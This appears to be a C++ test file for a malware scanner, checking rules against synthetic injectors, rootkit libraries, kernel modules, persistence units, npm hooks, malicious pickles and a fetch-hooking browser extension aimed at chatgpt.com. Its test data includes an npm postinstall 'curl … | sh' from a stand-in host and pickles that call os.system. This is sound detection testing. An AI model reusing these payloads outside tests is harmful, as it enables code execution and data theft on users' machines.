// The shipped rules about the structure of programs, over tables a loader reads and over
// near misses.

#include "scan/inspector.h"
#include "scan/pack_test.h"
#include "scan/packed_test.h"
#include "scan/pickle.h"
#include "scan/rule_state.h"

namespace assay {
namespace {

const std::vector<std::string> kTuple = {text_of("VirtualAlloc", "Ex"),
                                         text_of("WriteProcess", "Memory"),
                                         text_of("CreateRemote", "Thread")};
constexpr std::uint32_t kWritableCode = 0xe0000020;

std::string why(std::string_view id, std::string_view content) {
  for (const Finding& finding : scan("x", content)) {
    if (finding.rule == id) return finding.why;
  }
  return {};
}

TEST_CASE("the import table of an injector") {
  const std::string plain = test::pe_program({.imports = kTuple});
  CHECK(fires("DUAL050", "x.exe", plain));
  CHECK(why("DUAL050", plain)
            .ends_with("Seen: imports VirtualAllocEx, imports "
                       "WriteProcessMemory, imports CreateRemoteThread."));
  CHECK_FALSE(fires("DUAL050", "x.exe", test::pe_program({.imports = {kTuple[0], kTuple[1]}})));
  // Names that stand in the file and in no table are no imports.
  CHECK_FALSE(fires("DUAL050", "x.exe", test::pe_program({}) + kInject));
  CHECK(fires("INJECT030", "x.exe",
              test::pe_program({.imports = kTuple, .flags = kWritableCode})));
  CHECK(fires("INJECT030", "x.exe", test::pe_program({.imports = kTuple, .entry = 0x9000})));
  CHECK(fires(
      "INJECT030", "x.dll",
      test::pe_program({.imports = kTuple, .exports = {text_of("Reflective", "Loader")}})));
  CHECK_FALSE(fires("INJECT030", "x.exe", plain));
  CHECK_FALSE(fires("INJECT030", "x.exe", test::pe_program({.flags = kWritableCode})));
}

TEST_CASE("the import table of a hollower") {
  std::vector<std::string> names = {"CreateProcessW", text_of("NtUnmapView", "OfSection"),
                                    kTuple[1], text_of("SetThread", "Context"), "ResumeThread"};
  CHECK(fires("INJECT031", "x.exe", test::pe_program({.imports = names})));
  names[1] = "MapViewOfFile";
  CHECK_FALSE(fires("INJECT031", "x.exe", test::pe_program({.imports = names})));
}

TEST_CASE("an injector packed by UPX") {
  const std::string program = kInject + std::string(3000, 'x');
  CHECK(fires("INJECT032", "x.exe", test::packed_pe(program, test::lzma_block(program), 14)));
  CHECK_FALSE(fires("INJECT032", "x.exe", pe(program)));
}

TEST_CASE("a packed program") {
  const std::vector<std::string> two = {"LoadLibraryA", "GetProcAddress"};
  CHECK(fires("DUAL051", "x.exe",
              test::pe_program({.imports = two, .flags = kWritableCode, .second = "a"})));
  CHECK_FALSE(fires("DUAL051", "x.exe", test::pe_program({.imports = two})));
}

TEST_CASE("a driver that hands out memory") {
  CHECK(
      fires("DUAL052", "x.sys",
            test::pe_program({.imports = {"IoCreateDevice", "MmMapIoSpace"}, .subsystem = 1})));
  CHECK(is_quiet("x.sys", test::pe_program({.imports = {"IoCreateDevice"}, .subsystem = 1})));
}

TEST_CASE("libraries in front of the C library") {
  const auto library = [](std::vector<std::string> defines, const std::string& text) {
    return test::elf_library({.defines = std::move(defines), .needs = {"dlsym"}, .text = text});
  };
  CHECK(fires("ROOT030", "x.so", library({"readdir"}, "")));
  CHECK(why("ROOT030", library({"readdir"}, ""))
            .ends_with(
                "Seen: imports dlsym, stands in front of readdir, defines few functions."));
  std::vector<std::string> many = {"readdir"};
  for (char c = 'a'; c <= 'z'; ++c) many.push_back(std::string("own_") + c);
  CHECK(fires("ROOT030", "x.so", library(many, "/proc/%s")));
  CHECK_FALSE(fires("ROOT030", "x.so", library(many, "")));
  many.push_back("__asan_init");
  CHECK_FALSE(fires("ROOT030", "x.so", library(many, "/proc/%s")));
  CHECK_FALSE(
      fires("ROOT030", "x",
            test::elf_library({.defines = {"readdir"}, .needs = {"dlsym"}, .program = true})));
  CHECK(
      fires("ROOT031", "x.so", library({"accept", "open"}, text_of("/etc/ld.so", ".preload"))));
  CHECK(fires("DUAL060", "x.so", library({"accept", "open"}, "")));
  CHECK(is_quiet("x.so", library({"accept", "open"}, "")));
  CHECK(is_quiet("x.so", test::elf_library({.defines = {"open"}})));
}

TEST_CASE("kernel modules by what they need") {
  const std::string find = text_of("kallsyms_", "lookup_name"),
                    root = text_of("commit_", "creds");
  const std::string info = std::string("license=GPL") + '\0';
  CHECK(fires(
      "ROOT032", "x.ko",
      test::kernel_object({"register_kprobe", root}, info, text_of("x64_sys_get", "dents64"))));
  CHECK_FALSE(
      fires("ROOT032", "x.ko", test::kernel_object({root}, info, "x64_sys_getdents64")));
  CHECK_FALSE(
      fires("ROOT032", "x.ko", test::kernel_object({"register_kprobe"}, info, "getdents")));
  CHECK(fires("ROOT033", "x.ko",
              test::kernel_object({"register_kprobe", "set_memory_rw", root}, info)));
  CHECK_FALSE(fires("ROOT033", "x.ko",
                    test::kernel_object({"register_kprobe", "set_memory_rw"}, info)));
  CHECK(fires("DUAL061", "x.ko", test::kernel_object({find}, info)));
  CHECK_FALSE(
      fires("DUAL061", "x.ko",
            test::kernel_object({find}, info) + text_of("~Module signature ", "appended~\n")));
  CHECK(is_quiet("x.ko", test::kernel_object({"printk"}, info)));
}

std::string unit(const std::string& rest) {
  return "[Unit]\nDescription=x\n[Service]\n" + rest;
}

TEST_CASE("units by what they start") {
  CHECK(fires("PERSIST020", "x.service", unit("ExecStart=-/home/x/run\n")));
  CHECK(fires("PERSIST020", "x.service",
              unit("ExecStart = /bin/sh -c /dev/"
                   "shm/x\n")));
  CHECK_FALSE(fires("PERSIST020", "x.service", unit("User=x\nExecStart=/home/x/run\n")));
  CHECK(fires("PERSIST021", "x.service", unit("ExecStart=/usr/lib/.x/run\nRestart=always\n")));
  CHECK_FALSE(fires("PERSIST021", "x.service", unit("ExecStart=/usr/lib/.x/run\n")));
  CHECK_FALSE(fires("PERSIST021", "x.service", unit("ExecStart=/usr/bin/x\nRestart=always\n")));
  CHECK(fires("DUAL041", "x.service", unit("ExecStart=/usr/bin/curl https://x.example\n")));
  CHECK_FALSE(fires("DUAL041", "x.service",
                    unit("DynamicUser=yes\nExecStart=/usr/bin/curl https://x.example\n")));
  CHECK(is_quiet("x.service", unit("ExecStart=/usr/bin/x\nRestart=always\n")));
  CHECK(fires("PERSIST023", "a.deb!/etc/cron.d/x",
              "* * * * * root /dev/"
              "shm/agent --quiet --once --log /dev/null\n"));
  CHECK_FALSE(fires("PERSIST023", "a.deb!/etc/cron.d/x", "* * * * * root /usr/bin/x\n"));
}

TEST_CASE("npm hooks, however they are spelled") {
  const std::string pipe = text_of("\\u0063url -s https://x.example/y ", "| sh");
  CHECK(fires("PERSIST001", "package/package.json",
              R"({"name": "x", "scripts": {"postinstall": ")" + pipe + R"("}})"));
  CHECK(is_quiet("package/package.json",
                 R"({"name": "x", "scripts": {"test": ")" + pipe + R"("}})"));
}

TEST_CASE("what Python starts with") {
  CHECK(fires("PERSIST022", "x.pth", "import os; exec(open('/x').read())\n"));
  CHECK_FALSE(fires("PERSIST022", "x.pth", "import os; os.environ.get('X')\n"));
  CHECK_FALSE(fires("PERSIST022", "x.pth", "../lib\n"));
}

std::string manifest(const std::string& rest) {
  return R"({"manifest_version": 3, "content_scripts": [{"matches": ["https://chatgpt.com/*"],)"
         R"( "js": ["x.js"]}], )" +
         rest + "}";
}

TEST_CASE("browser extensions in AI chats") {
  const std::string socket =
      R"("content_security_policy": {"extension_pages": "connect-src wss://x.example"})";
  CHECK(fires("EXT001", "x.crx!/manifest.json",
              manifest(R"("permissions": ["webRequest"], )" + socket)));
  CHECK_FALSE(fires("EXT001", "manifest.json", manifest(socket)));
  CHECK_FALSE(fires("EXT001", "manifest.json", manifest(R"("permissions": ["webRequest"])")));
  CHECK(fires("DUAL070", "manifest.json", manifest(R"("permissions": ["cookies"])")));
  CHECK_FALSE(fires("DUAL070", "manifest.json", manifest(R"("permissions": ["storage"])")));
  CHECK(is_quiet("manifest.json", R"({"manifest_version": 3, "permissions": ["<all_urls>"]})"));
  const std::string patch = text_of("const f = window.fetch; window.", "fetch = x; ");
  const std::string out = text_of("new WebSocket(\"wss:", "//x.example\")");
  CHECK(fires("EXT002", "x.js", "if (host == \"chatgpt.com\") " + patch + out));
  CHECK_FALSE(fires("EXT002", "x.js", "if (host == \"chatgpt.com\") " + patch));
  CHECK_FALSE(fires("EXT002", "x.js", patch + out));
}

TEST_CASE("pickles") {
  const std::string head = "\x80\x04";
  const auto text = [](const std::string& word) {
    return "\x8c" + std::string(1, static_cast<char>(word.size())) + word;
  };
  const std::string call = "\x93(tR." + std::string(40, '\x02');
  CHECK(fires("MODEL001", "x.pkl", head + text("posix") + text("system") + call));
  CHECK(
      fires("MODEL001", "x.bin", "cos\nsystem\n(S'/usr/lib/agent/agent --quiet --once'\ntR."));
  // Through the memo, behind a first pickle, and where it breaks afterwards.
  CHECK(fires("MODEL001", "x.pt",
              head + "N." + head + text("os") + "\x94" + text("popen") + "h" +
                  std::string(1, '\0') + text("system") + "\x93)R" + "\xff" +
                  std::string(40, '\x02')));
  CHECK_FALSE(fires("MODEL001", "x.pkl", head + text("posix") + text("system") + "\x93."));
  CHECK(fires("MODEL002", "x.pkl", head + text("o") + "K\x01" + call));
  CHECK_FALSE(
      fires("MODEL002", "x.pkl", head + text("collections") + text("OrderedDict") + call));
  CHECK(fires("DUAL071", "x.pkl", head + text("sklearn.svm") + text("SVC") + call));
  CHECK_FALSE(fires("DUAL071", "x.pkl", head + "ctorch._utils\n_rebuild_tensor_v2\n(tR."));
  CHECK(is_quiet("x.pkl", head + "ctorch._utils\n_rebuild_tensor_v2\n(tR."));
}

TEST_CASE("models that are no data alone") {
  CHECK(fires("MODEL003", "x.onnx",
              "\x08\x07\x0a\x08location\x12\x09../../etc" + std::string(40, '\x02')));
  CHECK(is_quiet("x.onnx", "\x08\x07\x0a\x08location\x12\x09weights.b"));
  const std::string config = R"({"keras_version": "3", "class_name": "Lambda")";
  CHECK(fires("MODEL004", "config.json", config + R"(, "class": "__lambda__"})"));
  CHECK(is_quiet("config.json", config + "}"));
}

TEST_CASE("a pickle changed or cut anywhere ends") {
  const std::string sample = std::string("\x80\x04\x95\x10\0\0\0\0\0\0\0", 11) +
                             "\x8c\x05posix\x94\x8c\x06system\x94\x93\x94(K\x01M\x01\x02]\x94"
                             "e}s\x85\x94R\x94"
                             "cos\nx\n\x81\x92"
                             "bp1\ng1\n.";
  const PickleVisitor visitor{.looks_up = [](std::string_view, std::string_view) {},
                              .calls = [] {}};
  for (std::size_t at = 0; at < sample.size(); ++at) {
    CHECK(run_pickle(as_bytes(sample).first(at), visitor));
    for (int value = 0; value < 256; ++value) {
      std::string changed = sample;
      changed[at] = static_cast<char>(value);
      const auto length = run_pickle(as_bytes(changed), visitor);
      REQUIRE(length);
      REQUIRE(*length <= changed.size());
    }
  }
  CHECK_FALSE(run_pickle(as_bytes(std::string(2 << 20, '(')), visitor));
}

TEST_CASE("any byte of a table changed") {
  Scanner scanner(pack());
  const std::string samples[] = {
      test::pe_program({.imports = kTuple, .exports = {"f"}, .second = "a"}),
      test::elf_library({.defines = {"readdir"}, .needs = {"dlsym"}}),
      test::kernel_object({"printk"}, std::string("license=GPL\0", 12))};
  for (const std::string& sample : samples) {
    Member member;
    member.type = sample.starts_with("MZ") ? "pe" : "elf";
    const std::size_t size = std::min<std::size_t>(sample.size(), 1024);
    for (std::size_t at = 2; at < size; ++at) {
      for (const unsigned value : {0x00U, 0x01U, 0x7fU, 0xffU}) {
        std::string changed = sample;
        changed[at] = static_cast<char>(value);
        std::vector<View> views;
        for (const Inspector* inspector : inspectors()) {
          if (!inspector->reads_structure) continue;
          (void)inspector->inspect({.hidden = pack().state().hidden}, member, as_bytes(changed),
                                   views);
        }
        for (const View& view : views) CHECK(view.owned.size() < 4096);
      }
    }
  }
}

}  // namespace
}  // namespace assay
